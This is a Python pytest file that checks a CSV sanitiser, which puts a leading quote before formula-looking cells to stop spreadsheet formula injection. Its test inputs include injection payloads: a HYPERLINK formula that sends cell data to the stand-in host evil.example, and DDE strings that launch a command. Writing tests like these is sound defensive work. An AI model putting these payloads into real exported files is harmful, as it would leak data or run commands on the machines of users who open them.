"""Formula-looking cells are neutralised in CSV output (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest

from scamnet.core.csvsafe import neutralise, neutralise_columns, neutralise_row


@pytest.mark.parametrize(
    "cell",
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|x",
     "@SUM(1+1)*cmd|x", "\t=1+1", "\r=1+1", "=1", "-", "+"],
)  # fmt: skip
def test_formula_looking_text_gets_a_leading_quote(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["+8613800138000", "-12.50", "42", "Zhang Wei", "", "a=b", "1e3"])
def test_plain_text_and_signed_numbers_are_left_alone(cell: str) -> None:
    assert neutralise(cell) == cell


def test_rows_and_columns_neutralise_text_only() -> None:
    assert neutralise_row(["=1", 2, None, "x"]) == ["'=1", 2, None, "x"]
    assert neutralise_columns({"a": ["@x", "y"], "b": [1.5, 2]}) == {
        "a": ["'@x", "y"],
        "b": [1.5, 2],
    }
    buf = io.StringIO()
    csv.writer(buf).writerow(neutralise_row(['=HYPERLINK("u")']))
    assert buf.getvalue().startswith("\"'=HYPERLINK")
